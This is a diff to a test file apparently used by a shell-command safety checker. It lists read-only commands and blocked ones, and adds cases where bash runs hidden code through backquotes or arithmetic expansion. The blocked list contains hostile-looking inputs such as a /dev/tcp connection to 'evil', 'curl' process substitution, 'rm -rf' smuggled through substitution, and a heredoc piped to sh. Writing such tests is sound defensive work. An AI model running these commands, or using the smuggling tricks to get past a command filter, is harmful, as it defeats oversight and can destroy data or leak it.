@@ -13,7 +13,7 @@ const SAFE = [
   'ls | wc -l', 'ls && pwd || echo no; whoami', '(cd src && ls)', '{ ls; pwd; }', '! grep -q x f', 'ls |& cat', 'echo $(pwd) `whoami`',
   'diff <(ls a) <(ls b)', 'ls 2>/dev/null', 'ls >/dev/null 2>&1', 'ls &>/dev/null', 'ls 2>&-', 'cat < input.txt', 'wc -l <<< "a b"',
   "cat <<'EOF'\n$(rm -rf x)\nEOF", 'cat <<EOF\nhello $USER\nEOF', 'LC_ALL=C sort f', 'TZ=UTC date', 'echo ${HOME} ${#PATH} ${x:-def}',
-  'ls # rm -rf /', '/bin/ls', '/usr/bin/env', '"ls" -la', "'cat' f", '[ -f x ] && cat x', 'ls \\\n  -la', 'echo "a\\\nb"',
+  'ls # rm -rf /', '/bin/ls', '/usr/bin/env', 'echo ${x:1:2} ${x: -1}', 'test -n x', '[ x -eq 1 ]', "cat <<'EOF'\n`id`\nEOF", '"ls" -la', "'cat' f", '[ -f x ] && cat x', 'ls \\\n  -la', 'echo "a\\\nb"',
   // programs with checked options, in their read-only forms
   "find . -name '*.ts' -type f", 'find . -newer a -maxdepth 2 -print0', 'rg -n foo -g "*.ts" src', 'rg --pre-glob "*.gz" foo',
   'sort -rn -k2 -t, f', 'uniq -c f', 'date +%s', 'date -u -Iseconds', 'date -d tomorrow +%F', 'env', 'env -0', 'hostname -f', 'file -b f',
@@ -68,11 +68,15 @@ const UNSAFE: Array<[string, string]> = [
   ['cat < /dev/tcp/evil/80', 'network'], ['echo $(rm -rf x)', 'rm'], ['cat <(curl x)', 'curl'], ['ls > >(tee out)', 'tee'], ['ls &', 'background'],
   ['PATH=/tmp ls', 'PATH'], ['X=1; ls', 'assigning'], ['export X=1', 'declaration'], ['unset X', 'unset'], ['f() { ls; }', 'function'],
   ['if true; then ls; fi', 'if statement'], ['for f in *; do cat "$f"; done', 'for statement'], ['while true; do ls; done', 'while'],
-  ['case x in x) ls;; esac', 'case'], ['[[ -f x ]]', 'test command'], ['(( 1 + 1 ))', 'not a plain command'], ['echo $((1 + 2))', 'arithmetic'],
+  ['case x in x) ls;; esac', 'case'], ['[[ -f x ]]', 'test command'], ['(( 1 + 1 ))', 'arithmetic'], ['echo $((1 + 2))', 'arithmetic'],
   ['echo ${x:=y}', 'assigns'], ['echo ${PWD@P}', 'evaluates'], ['./ls', 'nobody has read'], ['bin/ls', 'nobody has read'],
   ['~/bin/ls', 'nobody has read'], ['/tmp/ls', 'nobody has read'], ['$X', 'run time'], ['$(echo ls)', 'run time'], ['l* -la', 'run time'],
   ['LS', 'not on the read-only list'], ['ls "unterminated', 'parse'], ['', 'empty'], ['l\\\ns', 'not on the read-only list'],
-  ['r\\\nm -rf x', 'not on the read-only list'], ['cat <<EOF | sh\nls\nEOF', 'sh'], ['xargs rm', 'xargs'], ['tee out', 'tee'],
+  ['r\\\nm -rf x', 'not on the read-only list'],
+  // code bash runs that the tree does not show: backquotes left in words, arithmetic on values
+  ['echo ${x:-`id`}', 'backquoted'], ['echo "${x:-`id`}"', 'backquoted'], ['cat <<EOF\n`id`\nEOF', 'backquoted'],
+  ["echo 'a[$(id)]'; echo ${HOME:_}", 'arithmetic'], ['echo ${HOME:0:_}', 'arithmetic'], ['echo ${y[_]}', 'arithmetic'],
+  ['test -v x', 'arithmetic'], ['[ -v x ]', 'arithmetic'], ['[ -R x ]', 'arithmetic'], ['cat <<EOF | sh\nls\nEOF', 'sh'], ['xargs rm', 'xargs'], ['tee out', 'tee'],
   ['less f', 'less'], ['sudo ls', 'sudo'], ['( '.repeat(60) + 'ls' + ' )'.repeat(60), 'nested too deeply'],
 ];
 
